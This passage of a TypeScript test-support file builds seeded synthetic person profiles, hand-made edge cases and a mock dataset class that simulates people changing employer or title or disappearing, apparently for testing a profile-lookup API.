    email: 'business.only@vellum-legal.example',
    // Contact holds a business email and nothing else: 2 credits with every group.
    edit: (d) => {
      d.contact = { business_emails: d.contact!.business_emails, personal_emails: [], phone_numbers: [], websites: [] };
      d.dev_platform_profiles = [];
      d.social_handles!.dev_platform_identifier = { profile_url: null };
      return d;
    },
  },
  {
    name: 'emptyStrings',
    slug: 'empty-strings',
    email: 'empty.strings@granitepeak.example',
    edit: (d) => {
      d.basic_profile!.headline = '';
      d.basic_profile!.summary = '';
      d.basic_profile!.current_title = '';
      d.basic_profile!.name = '  padded name  ';
      d.professional_network!.pronoun = '';
      d.skills = { professional_network_skills: [] };
      return d;
    },
  },
  {
    name: 'hostileEverywhere',
    slug: 'hostile-everywhere',
    email: 'hostile.everywhere@acme-analytics.example',
    edit: (d) => hostilize(d, new Set([profileUrlForSlug('hostile-everywhere'), 'hostile.everywhere@acme-analytics.example']), { i: 0 }) as PersonData,
  },
  {
    name: 'noCurrentJob',
    slug: 'no-current-job',
    email: 'no.current.job@yonder-travel.example',
    edit: (d) => {
      d.experience!.employment_details!.current = [];
      d.basic_profile!.current_title = '';
      d.basic_profile!.normalized_title = null;
      d.basic_profile!.headline = 'Open to work';
      return d;
    },
  },
];

interface SampleSet {
  people: MockPerson[];
  bySlug: Map<string, MockPerson>;
  byEmail: Map<string, MockPerson>;
  special: Record<SpecialName, MockPerson>;
}

let samples: SampleSet | null = null;

function buildSamples(): SampleSet {
  const people: MockPerson[] = [];
  const special = {} as Record<SpecialName, MockPerson>;
  const usedEmails = new Set<string>();
  const ordinaryCount = SAMPLE_SIZE - SPECIAL_SPECS.length;

  for (let i = 0; i < ordinaryCount; i++) {
    const rng = new Prng(`sample-names:${i}`);
    const first = rng.pick(FIRST_NAMES);
    const last = rng.pick(LAST_NAMES);
    const employer = rng.pick(COMPANIES);
    const slugBase = [asciiSlugPart(first), asciiSlugPart(last)].filter(Boolean).join('-') || 'member';
    const slug = `${slugBase}-${(i * 7919 + 4099).toString(36)}`;
    const localBase = [asciiSlugPart(first), asciiSlugPart(last)].filter(Boolean).join('.').replace(/-/g, '') || `member${i}`;
    const domain = employer.domain;
    let email = `${localBase}@${domain}`;
    if (usedEmails.has(email)) email = `${localBase}.${i}@${domain}`;
    usedEmails.add(email);
    const data = generatePersonData(`sample:${i}`, 1000 + i, slug, email, employer, { first, last });
    people.push(freezePerson({ slug, profileUrl: profileUrlForSlug(slug), businessEmail: email, data }));
  }

  SPECIAL_SPECS.forEach((spec, index) => {
    const employerDomain = spec.email.slice(spec.email.indexOf('@') + 1);
    const employer = COMPANIES.find((company) => company.domain === employerDomain);
    const data = generatePersonData(`special:${spec.name}`, 900 + index, spec.slug, spec.email, employer);
    const edited = spec.edit(data, new Prng(`special-edit:${spec.name}`));
    const person = freezePerson({ slug: spec.slug, profileUrl: profileUrlForSlug(spec.slug), businessEmail: spec.email, data: edited });
    special[spec.name] = person;
    people.push(person);
  });

  const bySlug = new Map(people.map((person) => [person.slug, person]));
  const byEmail = new Map(people.map((person) => [person.businessEmail, person]));
  if (bySlug.size !== people.length || byEmail.size !== people.length) throw new Error('dataset: duplicate slug or email');
  return { people, bySlug, byEmail, special };
}

function sampleSet(): SampleSet {
  samples ??= buildSamples();
  return samples;
}

/** The ~300 sample people (specials included), in a fixed order. */
export function samplePeople(): readonly MockPerson[] {
  return sampleSet().people;
}

/** The hand-made edge cases by name, e.g. SPECIAL.hostileHeadline.profileUrl. */
export const SPECIAL: Readonly<Record<SpecialName, MockPerson>> = new Proxy({} as Record<SpecialName, MockPerson>, {
  get: (_target, name) => sampleSet().special[name as SpecialName],
  ownKeys: () => Reflect.ownKeys(sampleSet().special),
  getOwnPropertyDescriptor: (_target, name) => ({ value: sampleSet().special[name as SpecialName], enumerable: true, configurable: true }),
});

export const SPECIAL_NAMES: readonly SpecialName[] = SPECIAL_SPECS.map((spec) => spec.name);

/** The pristine person behind a slug (sample, special or synthetic-<n>); undefined when nobody has it. */
export function personBySlug(slug: string): MockPerson | undefined {
  const key = slug.toLowerCase();
  const sample = sampleSet().bySlug.get(key);
  if (sample) return sample;
  const n = syntheticIndexOfSlug(key);
  return n === null ? undefined : syntheticPerson(n);
}

/** The pristine person behind a business email (case-insensitive). */
export function personByBusinessEmail(email: string): MockPerson | undefined {
  const key = email.toLowerCase();
  const sample = sampleSet().byEmail.get(key);
  if (sample) return sample;
  const n = syntheticIndexOfEmail(key);
  return n === null ? undefined : syntheticPerson(n);
}

// ---------------------------------------------------------------------------------------------
// A mutable view for one mock API: edits, removals and churn over the pristine people.

export interface ChurnOptions {
  seed: number | string;
  /** Probabilities in [0, 1], decided per person from (seed, slug): independent of who else is in the population. */
  employerChange?: number;
  titleChange?: number;
  disappear?: number;
  /** Date of the change (YYYY-MM-DD); default 2026-01-01. */
  asOf?: string;
  /** Who may change; default: every sample person plus every generated person looked up so far. */
  slugs?: readonly string[];
}

export interface CurrentRole {
  /** experience.employment_details.current[0].name */
  employer: string | null;
  /** basic_profile.current_title (= current[0].title) */
  title: string | null;
}

export interface ChurnChange {
  slug: string;
  profileUrl: string;
  businessEmail: string;
  kind: 'employer' | 'title' | 'disappeared';
  before: CurrentRole;
  /** null when the person disappeared. */
  after: CurrentRole | null;
}

export interface ChurnReport {
  considered: number;
  /** At most one change per person, sorted by slug. */
  changes: ChurnChange[];
  employerChanged: string[];
  titleChanged: string[];
  disappeared: string[];
}

export function currentRoleOf(data: PersonData): CurrentRole {
  const job = currentJob(data);
  return { employer: job?.name ?? null, title: data.basic_profile?.current_title ?? job?.title ?? null };
}

function clonePersonData(data: PersonData): PersonData {
  return structuredClone(data) as PersonData;
}

export class MockDataset {
  /** slug -> edited data, or null when removed. */
  private readonly overrides = new Map<string, PersonData | null>();
  /** Generated people this dataset has handed out: the default population for churn. */
  private readonly touchedSynthetic = new Set<number>();

  /** The person as it is now, or undefined (unknown slug, or removed). */
  findBySlug(slug: string): MockPerson | undefined {
    return this.current(personBySlug(slug));
  }

  findByBusinessEmail(email: string): MockPerson | undefined {
    return this.current(personByBusinessEmail(email));
  }

  /** What the live endpoint finds: everyone the cached dataset has, plus the web-only people. */
  findOnTheWebBySlug(slug: string): MockPerson | undefined {
    return this.findBySlug(slug) ?? this.current(liveOnlyPersonBySlug(slug));
  }

  findOnTheWebByBusinessEmail(email: string): MockPerson | undefined {
    return this.findByBusinessEmail(email) ?? this.current(liveOnlyPersonByBusinessEmail(email));
  }

  /**
   * The person as it is now, without counting a generated person as handed out: other candidates
   * of an email lookup are not looked-up people, so they must not widen churn's default population.
   */
  peekBySlug(slug: string): MockPerson | undefined {
    const person = personBySlug(slug);
    if (!person || !this.overrides.has(person.slug)) return person;
    const data = this.overrides.get(person.slug);
    return data ? { ...person, data } : undefined;
  }

  /** Edits a person's data. `edit` gets a private copy; it may change it in place or return a new one. */
  updatePerson(slug: string, edit: (data: PersonData) => PersonData | void): MockPerson {
    const person = this.findBySlug(slug);
    if (!person) throw new Error(`updatePerson: no person with slug '${slug}'`);
    const copy = clonePersonData(person.data);
    const edited = edit(copy) ?? copy;
    this.overrides.set(person.slug, edited);
    return { ...person, data: edited };
  }

  /** From now on the person is not found (matches: []). */
  removePerson(slug: string): void {
    const person = personBySlug(slug);
    if (!person) throw new Error(`removePerson: no person with slug '${slug}'`);
    this.overrides.set(person.slug, null);
  }

  /** Undoes edits and removal. */
  restorePerson(slug: string): void {
    this.overrides.delete(slug.toLowerCase());
  }

  /** Slugs churn considers by default: sample people and generated people handed out, not removed. */
  population(): string[] {
    const slugs = samplePeople().map((person) => person.slug);
    for (const n of [...this.touchedSynthetic].sort((a, b) => a - b)) slugs.push(syntheticSlug(n));
    return slugs.filter((slug) => this.overrides.get(slug) !== null);
  }

  /**
   * Some people change employer, some change title, some disappear; each person at most one
   * of these per call. The report says exactly who changed what.
   */
  applyChurn(options: ChurnOptions): ChurnReport {
    const asOf = options.asOf ?? '2026-01-01';
    const [asOfYear, asOfMonth] = asOf.split('-').map(Number);
    const slugs = [...new Set((options.slugs ?? this.population()).map((slug) => slug.toLowerCase()))].sort();
    const changes: ChurnChange[] = [];
    for (const slug of slugs) {
      const person = this.findBySlug(slug);
      if (!person) continue;
      const before = currentRoleOf(person.data);
      const base = { slug: person.slug, profileUrl: person.profileUrl, businessEmail: person.businessEmail, before };
      const job = currentJob(person.data);
      if (unitFrom(options.seed, slug, 'disappear') < (options.disappear ?? 0)) {
        this.removePerson(slug);
        changes.push({ ...base, kind: 'disappeared', after: null });
      } else if (job && unitFrom(options.seed, slug, 'employer') < (options.employerChange ?? 0)) {
        const start = Math.floor(unitFrom(options.seed, slug, 'company') * COMPANIES.length);
        let company = COMPANIES[start];
        for (let step = 1; company.name === job.name; step++) company = COMPANIES[(start + step) % COMPANIES.length];
        const title = TITLES.find((candidate) => candidate.title === job.title) ?? TITLES[0];
        const updated = this.updatePerson(slug, (data) => {
          const details = data.experience!.employment_details!;
          const [old, ...others] = details.current!;
          const rng = new Prng(`churn:${options.seed}:${slug}`);
          const next = employmentEntry(rng, { company, title, startYear: asOfYear, startMonth: asOfMonth, endYear: null, endMonth: null }, true);
          next.title = old.title;
          details.current = [next, ...others];
          details.past = [{ ...old, end_date: asOf, is_default: false }, ...(details.past ?? [])];
          data.updated_at = `${asOf}T00:00:00Z`;
        });
        changes.push({ ...base, kind: 'employer', after: currentRoleOf(updated.data) });
      } else if (job && unitFrom(options.seed, slug, 'title') < (options.titleChange ?? 0)) {
        const start = Math.floor(unitFrom(options.seed, slug, 'new-title') * TITLES.length);
        let title = TITLES[start];
        for (let step = 1; title.title === before.title || title.title === job.title; step++) title = TITLES[(start + step) % TITLES.length];
        const updated = this.updatePerson(slug, (data) => {
          const current = data.experience!.employment_details!.current![0];
          current.title = title.title;
          current.seniority_level = title.seniority;
          current.function_category = title.functionCategory;
          if (data.basic_profile) {
            data.basic_profile.current_title = title.title;
            if (data.basic_profile.normalized_title) {
              data.basic_profile.normalized_title = { ...data.basic_profile.normalized_title, matched_title: title.matchedTitle, department: title.department, sub_department: title.subDepartment };
            }
          }
          if (data.professional_network) data.professional_network.current_title = title.title;
          data.updated_at = `${asOf}T00:00:00Z`;
        });
        changes.push({ ...base, kind: 'title', after: currentRoleOf(updated.data) });
      }
    }
    return {
      considered: slugs.length,
      changes,
      employerChanged: changes.filter((change) => change.kind === 'employer').map((change) => change.slug),
      titleChanged: changes.filter((change) => change.kind === 'title').map((change) => change.slug),
      disappeared: changes.filter((change) => change.kind === 'disappeared').map((change) => change.slug),
    };
  }

  private current(person: MockPerson | undefined): MockPerson | undefined {
    if (!person) return undefined;
    const n = syntheticIndexOfSlug(person.slug);
    if (n !== null) this.touchedSynthetic.add(n);
    if (!this.overrides.has(person.slug)) return person;
    const data = this.overrides.get(person.slug);
    return data ? { ...person, data } : undefined;
  }
}
